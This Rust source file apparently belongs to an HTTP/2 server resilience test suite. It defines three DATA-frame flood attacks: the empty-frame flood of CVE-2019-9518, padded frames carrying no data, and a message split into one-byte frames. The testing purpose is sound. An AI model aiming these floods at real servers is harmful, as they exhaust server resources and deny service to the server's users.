//! DATA frames with hardly any data.

use super::attack::Attack;
use super::frames::{DATA, ECHO, END_STREAM, Frames, PADDED, message, stream};

pub(super) const ATTACKS: [Attack; 3] = [
    // CVE-2019-9518
    Attack::flood("empty_data", |frames, _| frames.frame(DATA, 0, 1, &[]))
        .with_opening(|frames| frames.head(1, ECHO)),
    // Padding of no bytes: the frame is not empty, but its data is.
    Attack::flood("empty_data_padded", |frames, _| frames.frame(DATA, PADDED, 1, &[0]))
        .with_opening(|frames| frames.head(1, ECHO)),
    // A message byte by byte, ten bytes for one.
    Attack::flood("one_byte_data", |frames, iteration| {
        frames.head(stream(iteration), ECHO);
        let message = message(4000);
        let mut rest = &message[..];
        while let Some((byte, behind)) = rest.split_first() {
            let flags = if behind.is_empty() { END_STREAM } else { 0 };
            frames.frame(DATA, flags, stream(iteration), &[*byte]);
            rest = behind;
        }
    })
    .with_opening(Frames::open_windows)
    .with_bounded_outcome(),
];
